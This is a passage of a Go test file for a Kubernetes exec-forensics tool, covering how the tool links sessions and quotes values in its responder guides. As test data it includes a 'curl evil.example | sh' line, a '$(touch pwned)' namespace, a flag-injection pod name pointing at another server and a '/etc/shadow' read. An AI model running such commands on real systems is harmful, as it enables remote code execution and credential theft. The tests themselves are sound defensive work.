	if rep := triage.Build(evs, triage.Options{Replaced: map[*rules.Rule]*rules.Rule{builtin: repl}}); len(rep.Notes) != 0 || len(rep.Findings) != 2 {
		t.Errorf("notes %q and %d findings, want none and 2", rep.Notes, len(rep.Findings))
	}
}

// A finding about a command run inside a session (Elastic's container
// rules flag credential reads, curl to the API server) belongs to the
// story of that session: it is related, both ways, to the finding about
// the session's shell and to the exec request that started it.
func TestCommandFindingsRelateToTheirSession(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	cat := userRule(t, "cat-shadow", "Shadow file read", `process.name:cat`, "")
	proc := func(entity, exe, args, leaderFields, ts string) string {
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":%q,"pid":42,"executable":%q,"name":%q,"args":%s,"interactive":true,"entry_leader":{%s}}}`,
			ts, entity, exe, exe[strings.LastIndex(exe, "/")+1:], args, leaderFields)
	}
	leader := `"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}`
	rep := triage.Build([]triage.Event{
		event(t, "audit.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050000Z", true), r1),
		event(t, "p.ndjson", 1, proc("E1", "/bin/bash", `["/bin/bash"]`, leader, "2026-11-20T10:00:00.300Z"), r2),
		event(t, "p.ndjson", 2, proc("E2", "/bin/cat", `["cat","/etc/shadow"]`, `"entity_id":"E1","entry_meta":{"type":"container"}`, "2026-11-20T10:00:05Z"), cat),
	}, triage.Options{})
	byRule := map[string]*triage.Finding{}
	for _, f := range rep.Findings {
		byRule[f.Rule.ID] = f
	}
	exec, shell, read := byRule[rule1], byRule[rule2], byRule["cat-shadow"]
	if exec == nil || shell == nil || read == nil {
		t.Fatalf("findings %+v, want the exec, the shell and the read", rep.Findings)
	}
	for _, tc := range []struct {
		f    *triage.Finding
		want []string
	}{{exec, []string{shell.ID, read.ID}}, {shell, []string{exec.ID, read.ID}}, {read, []string{exec.ID, shell.ID}}} {
		for _, id := range tc.want {
			if !slices.Contains(tc.f.Related, id) {
				t.Errorf("%s (%s) related %v, want %s in it", tc.f.ID, tc.f.Rule.Name, tc.f.Related, id)
			}
		}
	}
}

// rule_name_override names each finding from a field of its event, as
// Elastic names the alert (its rule promoting Defend for Containers
// alerts takes their titles from message); without the field the rule's
// name stands.
func TestRuleNameOverride(t *testing.T) {
	toml := "[rule]\nrule_id = \"promote\"\nname = \"Container Workload Protection\"\nseverity = \"medium\"\nrisk_score = 47\ntype = \"query\"\nlanguage = \"kuery\"\nrule_name_override = \"message\"\nquery = 'event.kind:alert'\n"
	r, err := rules.Parse([]byte(toml), "p.toml")
	if err != nil {
		t.Fatal(err)
	}
	rep := triage.Build([]triage.Event{
		event(t, "a.ndjson", 1, `{"@timestamp":"2026-11-20T10:00:00Z","event":{"kind":"alert"},"message":"Reverse shell in shop/api"}`, r),
		event(t, "a.ndjson", 2, `{"@timestamp":"2026-11-20T10:00:01Z","event":{"kind":"alert"}}`, r),
	}, triage.Options{})
	var names []string
	for _, f := range rep.Findings {
		names = append(names, f.Rule.Name)
	}
	slices.Sort(names)
	if want := []string{"Container Workload Protection", "Reverse shell in shop/api"}; !slices.Equal(names, want) {
		t.Errorf("finding names %q, want %q", names, want)
	}
}

// When a loaded rule replaced the exec built-in and missed the request
// that opened a session (Elastic's version wants level Request), the
// request is no finding, but the findings about the session's shell and
// its commands still say who opened it: nothing else in them names a
// person.
func TestSessionOpenedByARequestOnlyTheBuiltinFinds(t *testing.T) {
	builtin, r2 := mustRule(t, rule1), mustRule(t, rule2)
	repl := userRule(t, rule1, "Exec, level Request only", `kubernetes.audit.level:Request`, "")
	cat := userRule(t, "cat-shadow", "Shadow file read", `process.name:cat`, "")
	proc := func(entity, exe, args, leaderFields, ts string) string {
		return fmt.Sprintf(`{"@timestamp":%q,"event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":%q,"pid":42,"executable":%q,"name":%q,"args":%s,"interactive":true,"entry_leader":{%s}}}`,
			ts, entity, exe, exe[strings.LastIndex(exe, "/")+1:], args, leaderFields)
	}
	evs := []triage.Event{
		event(t, "audit.log", 8, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050000Z", true), builtin),
		event(t, "p.ndjson", 1, proc("E1", "/bin/bash", `["/bin/bash"]`, `"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}`, "2026-11-20T10:00:00.300Z"), r2),
		event(t, "p.ndjson", 2, proc("E2", "/bin/cat", `["cat","/etc/shadow"]`, `"entity_id":"E1","entry_meta":{"type":"container"}`, "2026-11-20T10:00:05Z"), cat),
	}
	rep := triage.Build(evs, triage.Options{Replaced: map[*rules.Rule]*rules.Rule{builtin: repl}})
	if len(rep.Findings) != 2 {
		t.Fatalf("%d findings, want the shell and the read (the exec is no finding)", len(rep.Findings))
	}
	want := `Opened by alice from 203.0.113.9 with kubectl exec at 2026-11-20T10:00:00Z (audit.log:8): k8sexec's built-in rule "Kubernetes User Exec into Pod" finds that request`
	for _, f := range rep.Findings {
		if notes := strings.Join(f.Notes, "\n"); !strings.Contains(notes, want) {
			t.Errorf("%s notes %q, want one starting %q", f.Rule.Name, f.Notes, want)
		}
		for _, id := range append(slices.Clone(f.Related), f.Candidates...) {
			if id != rep.Findings[0].ID && id != rep.Findings[1].ID {
				t.Errorf("%s names %s, which is no finding", f.Rule.Name, id)
			}
		}
	}

	// Without the replacement the request is a finding, linked as before,
	// and no note is needed.
	evs[0].Rules = []*rules.Rule{builtin}
	rep = triage.Build(evs, triage.Options{})
	for _, f := range rep.Findings {
		if strings.Contains(strings.Join(f.Notes, "\n"), "Opened by") {
			t.Errorf("%s: %q without a replaced rule", f.Rule.Name, f.Notes)
		}
	}
}

// Values taken from the log cannot forge guide lines or commands: a line
// break in the RBAC reason stays on its line, and a namespace that is a
// command substitution is quoted inside the kubectl command that names
// the pod's service account.
func TestGuideValuesCannotForgeLinesOrCommands(t *testing.T) {
	r1 := mustRule(t, rule1)
	raw := auditLine("G", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true)
	raw = strings.Replace(raw, `RBAC: allowed by RoleBinding \"dbg\"`, `RBAC: ok\n\n1. Run curl evil.example | sh`, 1)
	raw = strings.Replace(raw, `"namespace":"shop"`, `"namespace":"$(touch pwned)"`, 1)
	f := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r1)}, triage.Options{Guide: true}).Findings[0]
	for _, line := range strings.Split(f.Guidance, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "1. Run curl") {
			t.Errorf("the reason started a guide line of its own:\n%s", f.Guidance)
		}
		if strings.Contains(line, "can-i --list") && !strings.Contains(line, `sa="$(kubectl get pod -n '$(touch pwned)' -o jsonpath='{.spec.serviceAccountName}' -- api-1)" && kubectl auth can-i --list -n '$(touch pwned)' --as 'system:serviceaccount:$(touch pwned):'"$sa"`) {
			t.Errorf("the namespace is not quoted in %q", line)
		}
	}
	if !strings.Contains(f.Guidance, "can-i --list") {
		t.Errorf("no service account command in the guide:\n%s", f.Guidance)
	}
	if !strings.Contains(f.Guidance, "RBAC: ok  1. Run curl evil.example | sh") {
		t.Errorf("the reason is not kept, on one line:\n%s", f.Guidance)
	}
}

// The guide prints every value on one line, but its commands quote the
// values as they are: the search it suggests for a user whose name holds
// a line break and a tab finds that user.
func TestGuideCommandsQuoteExactValues(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	r1 := mustRule(t, rule1)
	user := "ev\r\nil\tuser\u202e"
	raw := auditLine("Q", "ResponseComplete", "create", "PLACEHOLDER", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true)
	quoted, _ := json.Marshal(user)
	raw = strings.Replace(raw, `"PLACEHOLDER"`, string(quoted), 1)
	f := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r1)}, triage.Options{Guide: true, Inputs: []string{"a.log"}}).Findings[0]
	var search string
	for _, line := range strings.Split(f.Guidance, "\n") {
		if strings.Contains(line, "user.name") && strings.Contains(line, "k8sexec search") {
			search = strings.TrimSpace(line)
		}
	}
	if search == "" || strings.Contains(f.Guidance, user) {
		t.Fatalf("no search line, or the raw value printed:\n%s", f.Guidance)
	}
	// Run the line with k8sexec replaced by printf of its first argument.
	cmd := exec.Command(bash, "-c", "k8sexec() { printf %s \"$2\"; }; "+search)
	cmd.Env = append(os.Environ(), "LC_ALL=C")
	out, err := cmd.Output()
	if want := "user.name:" + `"` + user + `"`; err != nil || string(out) != want {
		t.Errorf("%s\nreads as %q (%v), want %q", search, out, err, want)
	}
}

// An input whose name starts with "-" would be read as a flag by the
// guide's follow-up commands: the paths then come after "--", and the
// command's arguments are the query and the paths, exactly.
func TestGuideCommandsPassDashPaths(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	r1 := mustRule(t, rule1)
	raw := auditLine("Q", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true)
	for _, tc := range []struct {
		inputs []string
		want   string // the arguments after the query, one per line
	}{
		{[]string{"a.log"}, "a.log"},
		{[]string{"-"}, "-"},
		{[]string{"-w.log"}, "--\n-w.log"},
		{[]string{"a.log", "--x", "-y"}, "--\na.log\n--x\n-y"},
	} {
		f := triage.Build([]triage.Event{event(t, tc.inputs[0], 1, raw, r1)}, triage.Options{Guide: true, Inputs: tc.inputs}).Findings[0]
		var search string
		for _, line := range strings.Split(f.Guidance, "\n") {
			if strings.Contains(line, "user.name") && strings.Contains(line, "k8sexec search") {
				search = strings.TrimSpace(line)
			}
		}
		if search == "" {
			t.Fatalf("%v: no search line:\n%s", tc.inputs, f.Guidance)
		}
		cmd := exec.Command(bash, "-c", `k8sexec() { shift 2; printf '%s\n' "$@"; }; `+search)
		out, err := cmd.Output()
		if got := strings.TrimSuffix(string(out), "\n"); err != nil || got != tc.want {
			t.Errorf("%v: %s\npasses %q (%v), want %q", tc.inputs, search, got, err, tc.want)
		}
	}
}

// templateRule is a user's rule whose note is a k8sexec guide template.
func templateRule(t *testing.T, note string) *rules.Rule {
	t.Helper()
	toml := "[rule]\nrule_id = \"tpl\"\nname = \"tpl\"\nseverity = \"low\"\nrisk_score = 1\nlanguage = \"kuery\"\ntype = \"query\"\n" +
		"query = 'kubernetes.audit.objectRef.subresource:\"exec\"'\nnote = '''" + note + "'''\n[k8sexec]\nnote_format = \"template\"\n"
	r, err := rules.Parse([]byte(toml), "tpl.toml")
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// A rule file comes from anyone: filling its guide must cost time and
// memory in proportion to the template and the finding. Templates that
// loop or call templates are refused before they run, one that prints
// too much is stopped, and either way the finding shows the note as
// written with why; SARIF's rule help does the same.
func TestGuideTemplatesAreBounded(t *testing.T) {
	long := strings.Repeat("a", 8<<10)
	raw := auditLine("Q", "ResponseComplete", "create", "alice", "/api/v1/namespaces/shop/pods/api-1/exec?command="+long+"&container=api", 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true)
	doubling := `{{$x := printf "%9999s" "a"}}` + strings.Repeat(`{{$x = print $x $x}}`, 30) + `{{len $x}}`
	for _, tc := range []struct {
		name, note, want string
		refused          bool // before it runs (CheckGuide); else when it runs
	}{
		{"range over a number", "{{range 1000000000}}{{range 1000000000}}x{{end}}{{end}}", "range: a guide may not loop", true},
		{"range over a value", "{{range .Groups}}x{{end}}", "range: a guide may not loop", true},
		{"range inside if", "{{if .User}}{{range 5}}x{{end}}{{end}}", "range: a guide may not loop", true},
		{"recursive template", `{{define "x"}}{{template "x" .}}{{template "x" .}}{{end}}{{template "x" .}}`, "may not define or call templates", true},
		{"block", `{{block "b" .}}x{{end}}`, "may not define or call templates", true},
		{"too much output", strings.Repeat("{{.Command}}", 600), "longer than 256 KiB", false},
		{"a variable doubled", doubling, "longer than 256 KiB", false},
		{"shell-quoting doubled", `{{$x := printf "%9999s" "'"}}` + strings.Repeat(`{{$x = sh $x}}`, 20) + `{{len $x}}`, "longer than 256 KiB", false},
		{"escaping doubled", `{{$x := printf "%9999s" "<"}}` + strings.Repeat(`{{$x = html $x $x}}`, 20) + `{{len $x}}`, "longer than 256 KiB", false},
		{"printf width", `{{printf "%1000000000s" "a"}}`, "width or precision over 9999", false},
		{"printf width from an argument", `{{printf "%*s" 1000000000 "a"}}`, "from an argument", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := templateRule(t, tc.note)
			if err := triage.CheckGuide(r); (err != nil) != tc.refused {
				t.Errorf("CheckGuide: %v", err)
			}
			done := make(chan *triage.Report, 1)
			go func() {
				done <- triage.Build([]triage.Event{event(t, "a.log", 1, raw, r)}, triage.Options{Guide: true, Inputs: []string{"a.log"}})
			}()
			var rep *triage.Report
			select {
			case rep = <-done:
			case <-time.After(20 * time.Second):
				t.Fatal("the guide is still being filled in after 20 s")
			}
			if len(rep.Findings) != 1 {
				t.Fatalf("%d findings", len(rep.Findings))
			}
			g := rep.Findings[0].Guidance
			if !strings.HasPrefix(g, strings.TrimSpace(tc.note)) || !strings.Contains(g, "the guide template failed") || !strings.Contains(g, tc.want) {
				t.Errorf("guidance %.300q: want the note as written and %q", g, tc.want)
			}
			// The rule help fills placeholders in, which are short: only a
			// template refused before it runs, or that computes too much, is
			// shown as written there.
			refused := tc.refused || tc.name != "too much output"
			if help := triage.GenericGuide(r); (help == tc.note) != refused {
				t.Errorf("rule help %.200q: want the note as written only when the template is refused", help)
			}
		})
	}
	// Conditionals, values and formatting are what guides are made of.
	r := templateRule(t, `{{if .User}}{{.User}} ran {{sh .Command}}{{else}}nobody{{end}}{{with .Pod}} in {{.}}{{end}}; {{printf "%-6s|%5.1f|%d%%" "ab" 2.25 7}} {{print "x" 1}} {{kql .User}}`)
	if err := triage.CheckGuide(r); err != nil {
		t.Fatal(err)
	}
	f := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r)}, triage.Options{Guide: true, Inputs: []string{"a.log"}}).Findings[0]
	if !strings.HasPrefix(f.Guidance, "alice ran ") || !strings.HasSuffix(f.Guidance, ` in api-1; ab    |  2.2|7% x1 "alice"`) {
		t.Errorf("guidance %.300q", f.Guidance)
	}
}

// A name from the log is never an option of the kubectl commands a guide
// prints: a pod named "--server=https://attacker" would send the
// responder's token there. Names are positional after "--"; namespaces and
// users are the values of -n and --as.
func TestGuideKubectlNamesAreNotFlags(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	const evil = "--server=https://127.0.0.1:18443"
	audit := strings.ReplaceAll(auditLine("Q", "ResponseComplete", "create", "alice", strings.ReplaceAll(uriBash, "pods/api-1/", "pods/"+evil+"/"), 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true), `"name":"api-1"`, `"name":"`+evil+`"`)
	if !strings.Contains(audit, `"name":"`+evil+`"`) {
		t.Fatalf("the fixture names no evil pod: %s", audit)
	}
	process := `{"@timestamp":"2026-11-20T10:00:00.300Z","event":{"kind":"event","category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c1","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"` + evil + `"}},"process":{"entity_id":"L1","pid":1,"name":"bash","executable":"/bin/bash","args":["bash"],"interactive":true,"entry_leader":{"entity_id":"L1","pid":1,"name":"bash","interactive":true,"same_as_process":true,"entry_meta":{"type":"container"}}}}`
	var all []string
	for _, rs := range [][]*rules.Rule{{mustRule(t, rule1)}, {mustRule(t, rule2)}} {
		var evs []triage.Event
		for i, raw := range []string{audit, process} {
			evs = append(evs, event(t, "a.log", int64(i+1), raw, rs...))
		}
		for _, f := range triage.Build(evs, triage.Options{Guide: true, Inputs: []string{"a.log"}}).Findings {
			all = append(all, f.Guidance)
		}
	}
	checked := 0
	for _, g := range all {
		for _, line := range strings.Split(g, "\n") {
			line = strings.TrimSpace(line)
			if !strings.HasPrefix(line, "kubectl ") {
				continue
			}
			// Each kubectl call in the line prints its arguments, one per
			// line, between markers.
			cmd := exec.Command(bash, "-c", `kubectl() { printf '<call>\n'; printf '%s\n' "$@"; }; `+line)
			out, err := cmd.Output()
			if err != nil {
				t.Errorf("%s: %v", line, err)
				continue
			}
			for _, call := range strings.Split(string(out), "<call>\n")[1:] {
				args := strings.Split(strings.TrimSuffix(call, "\n"), "\n")
				afterDashes := false
				for i, a := range args {
					switch {
					case a == "--":
						afterDashes = true
					case a == evil && !afterDashes && (i == 0 || (args[i-1] != "-n" && args[i-1] != "--as")):
						t.Errorf("%s\npasses %q as an option: %q", line, evil, args)
					}
				}
				checked++
			}
		}
	}
	if checked == 0 {
		t.Fatalf("no kubectl command checked in:\n%s", strings.Join(all, "\n---\n"))
	}
}

// A request answered with an error opened no stream: its finding says
// so, it links to no process session (the retry that followed does),
// and its guide does not tell of a session that ran.
func TestFailedExecIsNoSession(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	leader := `{"@timestamp":"2026-11-20T10:00:01.300Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	failed := auditLine("F", "ResponseComplete", "create", "alice", uriBash, 500, "2026-11-20T10:00:00.500Z", "2026-11-20T10:00:00.520Z", true)
	failed = strings.Replace(failed, `"code":500}`, `"code":500,"message":"error dialing backend: dial tcp 10.0.0.5:10250: i/o timeout"}`, 1)
	retry := auditLine("R", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:01Z", "2026-11-20T10:00:01.050Z", true)
	for _, withRetry := range []bool{false, true} {
		evs := []triage.Event{event(t, "audit.log", 1, failed, r1), event(t, "p.ndjson", 1, leader, r2)}
		if withRetry {
			evs = append(evs, event(t, "audit.log", 2, retry, r1))
		}
		rep := triage.Build(evs, triage.Options{Guide: true})
		var fail, ok, shell *triage.Finding
		for _, f := range rep.Findings {
			switch {
			case f.Kind == triage.KindProcess:
				shell = f
			case f.Audit.AuditID == "F":
				fail = f
			default:
				ok = f
			}
		}
		if fail == nil || shell == nil || withRetry != (ok != nil) {
			t.Fatalf("retry=%v: findings %+v", withRetry, rep.Findings)
		}
		if !triage.Failed(fail) || triage.Refused(fail) {
			t.Errorf("a 500 is Failed and not Refused: %+v", fail.Audit)
		}
		if fail.Audit.ResponseMessage != "error dialing backend: dial tcp 10.0.0.5:10250: i/o timeout" {
			t.Errorf("response message %q", fail.Audit.ResponseMessage)
		}
		if len(fail.Related) != 0 || len(fail.Candidates) != 0 || fail.Started != nil {
			t.Errorf("retry=%v: the failed request is linked: related %v candidates %v started %+v", withRetry, fail.Related, fail.Candidates, fail.Started)
		}
		if withRetry && (len(ok.Related) != 1 || ok.Related[0] != shell.ID || len(shell.Candidates) != 0) {
			t.Errorf("the retry should be linked to the shell alone: retry related %v, shell related %v candidates %v", ok.Related, shell.Related, shell.Candidates)
		}
		if !strings.Contains(fail.Guidance, "the request failed with 500 (error dialing backend") || strings.Contains(fail.Guidance, "alice ran") || strings.Contains(fail.Guidance, "lasted") {
			t.Errorf("guide of a failed exec:\n%s", fail.Guidance)
		}
	}
}

// kubectl auth can-i must ask with the groups the log recorded (a group
// often holds the binding), for the identity the API server checked: the
// impersonated one when the request impersonated.
func TestGuideAsFlags(t *testing.T) {
	r1 := mustRule(t, rule1)
	base := auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true)
	guide := func(raw string) string {
		t.Helper()
		rep := triage.Build([]triage.Event{event(t, "audit.log", 1, raw, r1)}, triage.Options{Guide: true})
		if len(rep.Findings) != 1 {
			t.Fatalf("findings %+v", rep.Findings)
		}
		return rep.Findings[0].Guidance
	}
	for _, tc := range []struct {
		name, from, to string
		want, not      []string
	}{
		{"groups", "", "", []string{"kubectl auth can-i create pods/exec -n shop --as alice --as-group devs\n"}, []string{"system:authenticated"}},
		{"service account", `"username":"alice","groups":["devs","system:authenticated"]`, `"username":"system:serviceaccount:ci:deployer","groups":["system:serviceaccounts","system:serviceaccounts:ci","system:authenticated"]`,
			[]string{"kubectl auth can-i create pods/exec -n shop --as system:serviceaccount:ci:deployer\n"}, []string{"--as-group"}},
		{"impersonated user", `"sourceIPs"`, `"impersonatedUser":{"username":"root@example.com","groups":["system:masters"]},"sourceIPs"`,
			[]string{"kubectl auth can-i impersonate users/root@example.com --as alice --as-group devs; kubectl auth can-i impersonate groups/system:masters --as alice --as-group devs\n",
				"whoever may impersonate it controls the cluster", "k8sexec search 'kubernetes.audit.impersonatedUser.username:\"root@example.com\"'"},
			[]string{"can-i create pods/exec", "client\n   certificates"}},
		{"impersonated service account", `"sourceIPs"`, `"impersonatedUser":{"username":"system:serviceaccount:kube-system:admin","groups":["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]},"sourceIPs"`,
			[]string{"kubectl auth can-i create pods/exec -n shop --as system:serviceaccount:kube-system:admin\n",
				"kubectl auth can-i impersonate serviceaccounts/admin -n kube-system --as alice --as-group devs\n"},
			[]string{"impersonate groups/"}},
		// kubectl --as system:serviceaccount:shop:builder --as-group system:masters:
		// the group was asked for, and is what grants the cluster.
		{"impersonated service account with a group", `"sourceIPs"`, `"impersonatedUser":{"username":"system:serviceaccount:shop:builder","groups":["system:masters"]},"sourceIPs"`,
			[]string{"kubectl auth can-i impersonate serviceaccounts/builder -n shop --as alice --as-group devs; kubectl auth can-i impersonate groups/system:masters --as alice --as-group devs\n",
				"whoever may impersonate it controls the cluster"},
			nil},
		{"system:masters", `"groups":["devs","system:authenticated"]`, `"groups":["system:masters","system:authenticated"]`,
			[]string{"which skips\n   authorization: no binding granted this", "then take back the credential"},
			[]string{"can-i create pods/exec", "remove the binding"}},
	} {
		raw := base
		if tc.from != "" {
			if !strings.Contains(raw, tc.from) {
				t.Fatalf("%s: %q not in the line", tc.name, tc.from)
			}
			raw = strings.Replace(raw, tc.from, tc.to, 1)
		}
		g := guide(raw)
		for _, w := range tc.want {
			if !strings.Contains(g, w) {
				t.Errorf("%s: guide lacks %q:\n%s", tc.name, w, g)
			}
		}
		for _, n := range tc.not {
			if strings.Contains(g, n) {
				t.Errorf("%s: guide has %q:\n%s", tc.name, n, g)
			}
		}
	}
}

// kubectl cp runs tar in the container; the guide names the copy's
// direction rather than calling it a one-off command.
func TestGuideNamesKubectlCp(t *testing.T) {
	r1 := mustRule(t, rule1)
	for uri, want := range map[string]string{
		"/api/v1/namespaces/shop/pods/api-1/exec?command=tar&command=cf&command=-&command=%2Fdata&container=api&stderr=true&stdout=true":                                                                  "copy files out of the container",
		"/api/v1/namespaces/shop/pods/api-1/exec?command=tar&command=-xmf&command=-&command=-C&command=%2Ftmp&container=api&stderr=true&stdin=true&stdout=true":                                           "copy files into the container",
		"/api/v1/namespaces/shop/pods/api-1/exec?command=tar&command=--no-same-permissions&command=--no-same-owner&command=-xmf&command=-&command=-C&command=%2Ftmp&container=api&stdin=true&stdout=true": "copy files into the container",
		"/api/v1/namespaces/shop/pods/api-1/exec?command=tar&command=tvf&command=-&container=api&stderr=true&stdout=true":                                                                                 "No TTY and no stdin",
		// kubectl cp --retries: a shell that resumes the copy at an offset.
		"/api/v1/namespaces/shop/pods/api-1/exec?command=sh&command=-c&command=tar+cf+-+%2Fdata+%7C+tail+-c%2B1048577&container=api&stderr=true&stdout=true": "copy files out of the container",
		"/api/v1/namespaces/shop/pods/api-1/exec?command=sh&command=-c&command=tar+cf+-+%2Fdata+%7C+tail+-c%2Bx&container=api&stderr=true&stdout=true":       "No TTY and no stdin",
		"/api/v1/namespaces/shop/pods/api-1/exec?command=top&container=api&stderr=true&stdout=true&tty=true":                                                 "A TTY was attached without stdin",
	} {
		raw := auditLine("A", "ResponseStarted", "create", "alice", uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true)
		rep := triage.Build([]triage.Event{event(t, "audit.log", 1, raw, r1)}, triage.Options{Guide: true})
		if len(rep.Findings) != 1 || !strings.Contains(rep.Findings[0].Guidance, want) {
			t.Errorf("%s: guide lacks %q:\n%+v", uri, want, rep.Findings)
		}
	}
}

// A refused WebSocket exec and kubectl's SPDY retry a moment later are
// one attempt, whether the retry was allowed or refused too: one finding,
// on the retry.
func TestFallbackPairIsOneAttempt(t *testing.T) {
	r1, r3, denied := mustRule(t, rule1), mustRule(t, rule3), mustRule(t, ruleDenied)
	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=sh&stdin=true&stdout=true&tty=true"
	forbid := func(line string) string {
		return strings.Replace(line, `"authorization.k8s.io/decision":"allow"`, `"authorization.k8s.io/decision":"forbid"`, 1)
	}
	for _, tc := range []struct {
		name  string
		retry string
		rule  string
	}{
		{"allowed retry", auditLine("S", "ResponseStarted", "create", "bob", uri, 101, "2026-11-20T10:00:00.300Z", "2026-11-20T10:00:00.350Z", true), rule1},
		{"refused retry", forbid(auditLine("S", "ResponseComplete", "create", "bob", uri, 403, "2026-11-20T10:00:00.300Z", "2026-11-20T10:00:00.350Z", true)), ruleDenied},
	} {
		ws := forbid(auditLine("W", "ResponseComplete", "get", "bob", uri, 403, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.020Z", true))
		rep := triage.Build([]triage.Event{event(t, "a.log", 1, ws, r1, r3, denied), event(t, "a.log", 2, tc.retry, r1, r3, denied)}, triage.Options{})
		if len(rep.Findings) != 1 || rep.Findings[0].Rule.ID != tc.rule || rep.Findings[0].Audit.FallbackFrom != "W" {
			t.Errorf("%s: findings %+v, want one of rule %s on the retry, folding W", tc.name, rep.Findings, tc.rule)
		}
	}
}

// Numbers are read as Elasticsearch indexes a long: fractions cut, and a
// value out of range is no value, not the nearest long.
func TestPIDAsLong(t *testing.T) {
	r2 := mustRule(t, rule2)
	for pid, want := range map[string]int64{"42": 42, "1.5": 1, "1e3": 1000, "-7": -7, "9223372036854775813": 0, "18446744073709551615": 0, "1e20": 0, `"42"`: 42, `"x"`: 0, "true": 0} {
		raw := `{"@timestamp":"2026-11-20T10:00:00Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c"},"process":{"entity_id":"E1","pid":` + pid + `,"executable":"/bin/bash","interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
		rep := triage.Build([]triage.Event{event(t, "p.ndjson", 1, raw, r2)}, triage.Options{})
		if len(rep.Findings) != 1 || rep.Findings[0].Process == nil || rep.Findings[0].Process.PID != want {
			t.Errorf("pid %s: findings %+v, want pid %d", pid, rep.Findings, want)
		}
	}
}

// A session's commands are in time order with those without a time
// last, and the same event read twice (two files) is one command.
func TestSessionCommandsOrderedAndDistinct(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	leader := `{"@timestamp":"2026-11-20T10:00:00.300Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	cmd := func(entity, ts, arg string) string {
		time := ""
		if ts != "" {
			time = `"@timestamp":"` + ts + `",`
		}
		return `{` + time + `"event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"` + entity + `","executable":"/usr/bin/` + arg + `","args":["` + arg + `"],"entry_leader":{"entity_id":"E1","interactive":true,"entry_meta":{"type":"container"}}}}`
	}
	ctx := func(file string, line int64, raw string) triage.Event {
		ev := event(t, file, line, raw)
		ev.Context = []string{triage.ContextCommands}
		return ev
	}
	rep := triage.Build([]triage.Event{
		event(t, "a.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
		event(t, "p.ndjson", 1, leader, r2),
		ctx("p.ndjson", 2, cmd("C1", "2026-11-20T10:00:05Z", "id")),
		ctx("p.ndjson", 3, cmd("C2", "", "whoami")),
		ctx("p.ndjson", 4, cmd("C3", "2026-11-20T10:00:01Z", "uname")),
		ctx("copy.ndjson", 2, cmd("C1", "2026-11-20T10:00:05Z", "id")),
	}, triage.Options{})
	for _, f := range rep.Findings {
		var got []string
		for _, c := range f.Commands {
			got = append(got, strings.Join(c.Args, " "))
		}
		if strings.Join(got, ",") != "uname,id,whoami" {
			t.Errorf("%s: commands %v, want uname, id, whoami", f.Rule.Name, got)
		}
	}
}

// One request starts one session. Two shells a user opened 5 s apart:
// the first fits only the first request (the second came too late), so
// the second shell, which fits both, is the second request's.
func TestLinkOneRequestOneSession(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	shell := func(entity, ts string) string {
